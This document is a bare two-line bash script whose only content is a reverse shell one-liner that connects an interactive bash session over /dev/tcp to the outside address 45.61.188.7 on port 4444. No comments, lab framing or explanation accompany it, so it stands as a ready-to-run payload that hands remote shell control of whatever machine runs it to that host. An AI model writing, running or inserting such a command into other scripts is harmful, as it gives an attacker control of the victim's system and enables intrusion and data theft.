#!/bin/bash
bash -i >& /dev/tcp/45.61.188.7/4444 0>&1
